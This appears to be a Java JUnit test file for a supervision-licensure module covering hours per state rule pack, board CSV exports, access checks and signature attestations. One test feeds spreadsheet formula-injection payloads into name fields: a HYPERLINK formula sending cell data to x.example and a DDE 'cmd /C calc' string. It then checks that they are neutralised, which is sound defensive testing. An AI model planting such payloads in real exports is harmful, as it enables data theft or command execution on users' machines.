package org.casenotes.supervision.core.licensure;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.casenotes.supervision.core.licensure.CaliforniaBbsPackTest.dec;
import static org.casenotes.supervision.core.licensure.LicensureClinic.ADMIN;
import static org.casenotes.supervision.core.licensure.LicensureClinic.OTHER;
import static org.casenotes.supervision.core.licensure.LicensureClinic.SUP;
import static org.casenotes.supervision.core.licensure.LicensureClinic.ZONE;

import java.time.LocalDate;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import org.casenotes.supervision.api.PolicySource;
import org.casenotes.supervision.api.error.ForbiddenException;
import org.casenotes.supervision.api.error.PolicyException;
import org.casenotes.supervision.api.error.ValidationException;
import org.casenotes.supervision.api.licensure.LicensureCheck;
import org.casenotes.supervision.api.licensure.PeriodCheck;
import org.casenotes.supervision.api.licensure.RuleOutcome;
import org.casenotes.supervision.api.meeting.Attendance;
import org.casenotes.supervision.api.meeting.MeetingFormat;
import org.casenotes.supervision.api.meeting.Modality;
import org.casenotes.supervision.core.csv.Csv;
import org.casenotes.supervision.core.testing.StrictCsv;
import org.casenotes.supervision.core.testing.TestDatabases;
import org.junit.jupiter.api.Test;

/** The licensure check through the module: real meetings, attendance, the host's pack and hours. */
class LicensureModuleTest {

    private static final LocalDate MAR_1 = LocalDate.of(2026, 3, 1);
    private static final LocalDate MAR_31 = LocalDate.of(2026, 3, 31);

    @Test
    void onlyPresentSuperviseesAreCountedAndAnAbsentOneDoesNotMakeTheGroupBigger() {
        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        clinic.packs.put("clin-1", "us-tx-lpc-associate");
        clinic.packs.put("clin-3", "us-tx-lpc-associate");
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-03T09:00", 120, Map.of(), "clin-1");
        // Three planned, one absent: two present are individual supervision in Texas.
        clinic.held(MeetingFormat.GROUP, Modality.IN_PERSON, "2026-03-10T14:00", 120,
                Map.of("clin-3", Attendance.ABSENT), "clin-1", "clin-2", "clin-3");

        LicensureCheck present = clinic.module.licensure().check(SUP, "clin-1", null, MAR_1, MAR_31, ZONE,
                Locale.ENGLISH);
        LicensureCheck absent = clinic.module.licensure().check(SUP, "clin-3", null, MAR_1, MAR_31, ZONE,
                Locale.ENGLISH);

        PeriodCheck march = present.periods().get(0);
        assertThat(present.pack().id()).isEqualTo("us-tx-lpc-associate");
        assertThat(march.figures()).containsEntry("individualHours", dec("4.00")).containsEntry("groupHours",
                dec("0.00"));
        assertThat(march.allMet()).isTrue();
        assertThat(absent.periods().get(0).figures()).containsEntry("supervisionHours", dec("0.00"));
        assertThat(PackMonth.outcome(absent.periods().get(0), "monthly-hours")).isEqualTo(RuleOutcome.NOT_MET);
    }

    @Test
    void thePolicysDefaultPackAppliesWhenTheHostNamesNoneAndWithoutEitherTheCheckIsRefused() {
        LicensureClinic none = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        LicensureClinic florida = new LicensureClinic(TestDatabases.h2(),
                org -> Optional.of("{\"licensure\": {\"defaultRulePack\": \"us-fl-registered-intern\"}}"));

        assertThatThrownBy(() -> none.module.licensure().check(SUP, "clin-1", null, MAR_1, MAR_31, ZONE,
                Locale.ENGLISH)).isInstanceOfSatisfying(PolicyException.class,
                        e -> assertThat(e.code()).isEqualTo("licensure.no-rule-pack"));
        assertThat(florida.module.licensure().check(SUP, "clin-1", null, MAR_1, MAR_31, ZONE, Locale.ENGLISH)
                .pack().id()).isEqualTo("us-fl-registered-intern");
        assertThat(florida.module.policies().currentJson(ADMIN)).contains("\"defaultRulePack\" : \"us-fl-registered-intern\"");
    }

    @Test
    void weeklyPacksGiveOneResultPerWeekAndAskTheHostForEachWeeksClientHours() {
        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        clinic.packs.put("clin-2", "us-ca-bbs-amft");
        clinic.directHours.put(LocalDate.of(2026, 3, 1), dec("11"));
        clinic.directHours.put(LocalDate.of(2026, 3, 8), dec("8"));
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.VIDEO, "2026-03-02T09:00", 60, Map.of(), "clin-2");
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-09T09:00", 60, Map.of(), "clin-2");

        LicensureCheck check = clinic.module.licensure().check(SUP, "clin-2", null, LocalDate.of(2026, 3, 2),
                LocalDate.of(2026, 3, 12), ZONE, Locale.ENGLISH);

        assertThat(check.periods()).extracting(PeriodCheck::first).containsExactly(MAR_1, LocalDate.of(2026, 3, 8));
        assertThat(PackMonth.outcome(check.periods().get(0), "second-unit")).isEqualTo(RuleOutcome.NOT_MET);
        assertThat(PackMonth.outcome(check.periods().get(1), "second-unit")).isEqualTo(RuleOutcome.MET);
        assertThat(clinic.module.licensure().boardCsv(SUP, "clin-2", "sup-1", LocalDate.of(2026, 3, 2),
                LocalDate.of(2026, 3, 12), ZONE)).isEqualTo(String.join("\r\n",
                "Rule pack,Supervisee,Supervisor,Week beginning,Week ending,Direct clinical counseling hours,"
                        + "Individual supervision hours,Triadic supervision hours,Group supervision hours,"
                        + "Supervision units,Supervision hours credited,Week meets the supervision rules",
                "us-ca-bbs-amft v1,Person clin-2,Person sup-1,2026-03-01,2026-03-07,11.00,1.00,0.00,0.00,1.00,1.00,no",
                "us-ca-bbs-amft v1,Person clin-2,Person sup-1,2026-03-08,2026-03-14,8.00,1.00,0.00,0.00,1.00,1.00,yes",
                ""));
    }

    @Test
    void theBoardSummaryNeutralisesFormulaCellsWithTheHoursLogsWriter() {
        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        clinic.packs.put("clin-2", "us-tx-lpc-associate");
        clinic.name("clin-2", "=HYPERLINK(\"http://x.example/?\"&A1,\"open\")");
        clinic.name("sup-1", "@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
        clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-02T09:00", 60, Map.of(), "clin-2");

        List<List<String>> rows = StrictCsv.parse(clinic.module.licensure().boardCsv(SUP, "clin-2", "sup-1",
                LocalDate.of(2026, 3, 1), LocalDate.of(2026, 3, 31), ZONE));

        assertThat(rows).hasSize(2);
        assertThat(rows.get(1).subList(0, 3)).containsExactly("us-tx-lpc-associate v1",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "'@SUM(1+1)*cmd|' /C calc'!A0, \"Dr\"");
        assertThat(rows).allSatisfy(row -> assertThat(row)
                .noneMatch(cell -> !cell.isEmpty() && Csv.FORMULA_STARTS.indexOf(cell.charAt(0)) >= 0));
    }

    @Test
    void onlyTheSuperviseeTheirSupervisorsAndAdminsMayCheckAndTheDaysAreValidated() {
        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        clinic.packs.put("clin-1", "us-tx-lpc-associate");

        assertThatThrownBy(() -> clinic.module.licensure().check(OTHER, "clin-1", null, MAR_1, MAR_31, ZONE,
                Locale.ENGLISH)).isInstanceOf(ForbiddenException.class);
        assertThat(clinic.module.licensure().check(ADMIN, "clin-1", null, MAR_1, MAR_31, ZONE, Locale.ENGLISH)
                .periods()).hasSize(1);
        assertThatThrownBy(() -> clinic.module.licensure().check(SUP, "clin-1", null, MAR_31, MAR_1, ZONE,
                Locale.ENGLISH)).isInstanceOfSatisfying(ValidationException.class,
                        e -> assertThat(e.problems().get(0).path()).isEqualTo("/to"));
    }

    @Test
    void aSignedMeetingShowsTheSupervisorsCredentialsLicenceDateAndAttestation() {
        LicensureClinic clinic = new LicensureClinic(TestDatabases.h2(), PolicySource.BUILT_IN);
        var held = clinic.held(MeetingFormat.INDIVIDUAL, Modality.IN_PERSON, "2026-03-03T09:00", 60, Map.of(), "clin-1");

        assertThat(clinic.module.signatures().ofMeeting(SUP, held.id())).isEmpty();
        clinic.module.meetings().sign(SUP, held.id(), held.version());

        assertThat(clinic.module.signatures().ofMeeting(ADMIN, held.id())).hasValueSatisfying(s -> {
            assertThat(s.signatureLine()).isEqualTo(
                    "Electronically signed by Person sup-1, PhD, LMFT, LMFT 98765 (US-CA) on 2026-04-15");
            assertThat(s.attestationText()).isEqualTo("I attest that these case notes are my accurate record of the"
                    + " supervision meeting I led on 2026-03-03.");
            assertThat(s.licence().number()).isEqualTo("98765");
            assertThat(s.late()).isFalse();
        });
        assertThatThrownBy(() -> clinic.module.signatures().ofMeeting(OTHER, held.id()))
                .isInstanceOf(ForbiddenException.class);
    }
}
